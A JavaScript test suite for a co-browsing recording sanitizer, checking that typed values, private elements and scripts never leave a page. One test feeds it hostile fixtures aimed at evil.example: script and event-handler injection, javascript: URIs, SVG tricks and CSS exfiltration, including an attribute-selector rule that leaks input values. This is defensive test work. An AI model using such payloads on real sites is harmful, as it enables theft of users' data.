// What of a recorded page may leave, and what of a recording may be shown: the pure part, without a browser.
import assert from "node:assert/strict";
import { test } from "node:test";
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const source = readFileSync(join(dirname(fileURLToPath(import.meta.url)), "../../browser/cobrowse_clean.js"));
/** @type {typeof import("../../browser/cobrowse_clean.js")} */
const { Cleaner, MASK, css } = await import(`data:text/javascript;base64,${source.toString("base64")}`);

let ids = 1;
/** @param {string} tagName @param {any} [attributes] @param {...any} childNodes */
const el = (tagName, attributes = {}, ...childNodes) => ({ type: 2, id: ++ids, tagName, attributes, childNodes });
/** @param {string} textContent */
const text = (textContent) => ({ type: 3, id: ++ids, textContent });
/** @param {...any} nodes */
const page = (...nodes) => ({
  type: 2, timestamp: 1,
  data: { node: { type: 0, id: 1, childNodes: [el("html", {}, el("body", {}, ...nodes))] }, initialOffset: { left: 0, top: 0 } },
});
/** @param {any} data */
const change = (data) => ({ type: 3, timestamp: 2, data });
const S = "SENTINEL";

test("nothing typed, titled or kept for scripts leaves a page; its visible text does", () => {
  const clean = new Cleaner({});
  const seen = JSON.stringify(clean.event(page(
    el("h1", { title: S, "data-order": S, "aria-label": S }, text("Your order")),
    el("input", { type: "text", value: S, placeholder: S, name: S }),
    el("input", { type: "password", value: S }),
    el("input", { type: "hidden", value: S }),
    el("input", { type: "submit", value: S }),
    el("textarea", { value: S, placeholder: S }, text(S)),
    el("select", {}, el("option", { value: S, selected: true }, text("Lyon"))),
    el("img", { src: `https://shop.example/${S}.png`, alt: S, srcset: `https://shop.example/${S}.png 2x` }),
    el("a", { href: `https://shop.example/?token=${S}`, ping: S }, text("Track")),
    el("div", { "data-private": "" }, el("p", {}, text(S), el("input", { value: S }))),
    el("div", { class: "x" }, { type: 5, id: ++ids, textContent: S }),
    el("script", {}, text(S)), el("meta", { content: S }), el("title", {}, text(S)),
    el("iframe", { src: S, srcdoc: S }), el("canvas", { rr_dataURL: `data:image/png,${S}` }),
  )));
  assert.ok(!seen.includes(S), seen);
  assert.match(seen, /Your order.*Lyon.*Track/);
  assert.equal(JSON.stringify({ href: clean.event({ type: 4, timestamp: 1, data: { href: `https://shop.example/${S}`, width: 10, height: 10 } }) }).includes(S), false);
});

test("what changes later is held to the same", () => {
  const clean = new Cleaner({});
  const field = el("input", { type: "text" }), hidden = el("div", { "data-private": "" }, text("x")), area = el("textarea");
  const p = text("was"), box = el("p", {}, p);
  const script = el("script");
  clean.event(page(field, hidden, area, box, script));
  const inner = { type: 3, id: 900, textContent: S };
  const events = [
    change({ source: 5, id: field.id, text: S, isChecked: true }),
    change({ source: 0, attributes: [{ id: field.id, attributes: { value: S, placeholder: S, title: S } }], texts: [], removes: [], adds: [] }),
    change({ source: 0, attributes: [], texts: [], removes: [], adds: [{ parentId: hidden.id, nextId: null, node: inner }] }),
    change({ source: 0, attributes: [], texts: [{ id: 900, value: S }], removes: [], adds: [] }),
    change({ source: 0, attributes: [], texts: [], removes: [], adds: [{ parentId: area.id, nextId: null, node: { type: 3, id: 901, textContent: S } }] }),
    change({ source: 0, attributes: [], texts: [{ id: 901, value: S }], removes: [], adds: [] }),
    change({ source: 0, attributes: [], texts: [], removes: [], adds: [{ parentId: script.id, nextId: null, node: { type: 3, id: 902, textContent: S } }] }),
    change({ source: 5, id: 5_000, text: S }),
    { type: 5, timestamp: 1, data: { tag: S, payload: S } },
    { type: 6, timestamp: 1, data: { plugin: S } },
    change({ source: 11, level: "log", payload: [S] }),
    change({ source: 9, id: field.id, commands: [{ property: "fillText", args: [S] }] }),
  ];
  const seen = JSON.stringify(events.map((e) => clean.event(e)));
  assert.ok(!seen.includes(S), seen);
  assert.ok(seen.includes(MASK));
  const after = clean.event(change({ source: 0, attributes: [], texts: [{ id: p.id, value: "is" }], removes: [], adds: [] }));
  assert.equal(after?.data.texts[0].value, "is");
  clean.event(change({ source: 0, attributes: [{ id: box.id, attributes: { "data-private": "" } }], texts: [], removes: [], adds: [] }));
  assert.equal(clean.again, true, "what became private is left out by beginning anew");
});

test("a field is shown where the person agreed, and no other", () => {
  const open = el("input", { type: "text", value: "Lyon" }), shut = el("input", { type: "text", value: S });
  const clean = new Cleaner({ shows: (id) => id === open.id });
  const seen = JSON.stringify(clean.event(page(open, shut)));
  assert.ok(seen.includes("Lyon") && !seen.includes(S));
});

test("a hostile recording is left without scripts, addresses and frames", () => {
  const clean = new Cleaner({ leaves: false });
  const bad = "https://evil.example/x";
  const seen = JSON.stringify(clean.event(page(
    el("script", { src: bad }, text("steal()")), el("iframe", { src: bad, srcdoc: "<script>steal()</script>" }),
    el("img", { src: bad, srcset: `${bad} 2x`, onerror: "steal()" }), el("a", { href: "javascript:steal()", ping: bad }),
    el("form", { action: bad, formaction: bad }, el("button", { formaction: "javascript:steal()" })),
    el("link", { rel: "preconnect", href: bad }), el("link", { rel: "stylesheet", href: bad }),
    el("meta", { "http-equiv": "refresh", content: `0;url=${bad}` }), el("base", { href: bad }),
    el("object", { data: bad }), el("embed", { src: bad }), el("video", { src: bad, poster: bad }), el("audio", { src: bad }),
    { ...el("svg", {}, { ...el("foreignObject", {}, el("body", { onload: "steal()" })), isSVG: true },
      { ...el("image", { href: bad }), isSVG: true }, { ...el("use", { "xlink:href": bad, href: bad }), isSVG: true },
      { ...el("script", {}, text("steal()")), isSVG: true }, { ...el("animate", { attributeName: "href", to: "javascript:steal()" }), isSVG: true },
      { ...el("rect", { fill: `url(${bad})`, mask: `url(${bad})`, onclick: "steal()" }), isSVG: true }), isSVG: true },
    el("style", { _cssText: `@import "${bad}"; a{background:url(${bad})} b{background:image-set("${bad}" 1x)} input[value^=a]{background:u\\72l(${bad})}` }),
    el("style", {}, text(`@import url(${bad});@font-face{src:url("${bad}")}`)),
    el("div", { style: `background:url('${bad}')`, onclick: "steal()", background: bad }, text("seen")),
    { ...el("evil-element", { is: "x" }), isCustom: true }, el("portal", { src: bad }), el("template", {}, text("steal()")),
  )));
  assert.doesNotMatch(seen, /evil\.example|steal|javascript:|isCustom/);
  assert.match(seen, /seen/);
});

test("style rules keep what fetches nothing", () => {
  assert.equal(css("a{color:red;content:\"\\2014\"}"), "a{color:red;content:\"\\2014\"}");
  assert.equal(css('a{background:url("data:image/svg+xml,%3Csvg/%3E")}'), 'a{background:url("data:image/svg+xml,%3Csvg/%3E")}');
  assert.equal(css("a{background:url(https://evil.example/)}"), 'a{background:url("data:,")}');
  assert.equal(css("a{background:\\75rl(https://evil.example/)}"), "");
  assert.doesNotMatch(css("a{background:url(https://evil.example/"), /evil/);
  assert.doesNotMatch(css("a{background:ur/**/l(//evil.example)}"), /\/\/evil\.example\)/);
});

test("whatever comes, it ends and stays bounded", () => {
  const clean = new Cleaner({ leaves: false });
  let deep = /** @type {any} */ (text("x"));
  for (let i = 0; i < 5_000; i++) deep = el("div", {}, deep);
  assert.ok(clean.event(page(deep)));
  const many = page(...Array.from({ length: 30_000 }, () => el("p")));
  assert.equal(clean.event(many), null);
  for (const odd of [null, 1, "x", {}, { type: 2 }, { type: 2, data: {} }, { type: 3, data: null }, { type: 3, data: { source: 0, adds: [null, { node: null }], texts: 7 } },
    { type: 2, data: { node: { type: 2, id: 1, tagName: "html" } } }, { type: 4, data: null }, change({ source: 1, positions: [null] }), change({ source: 3, id: "x", x: "y" })]) {
    assert.doesNotThrow(() => clean.event(odd), JSON.stringify(odd));
  }
});
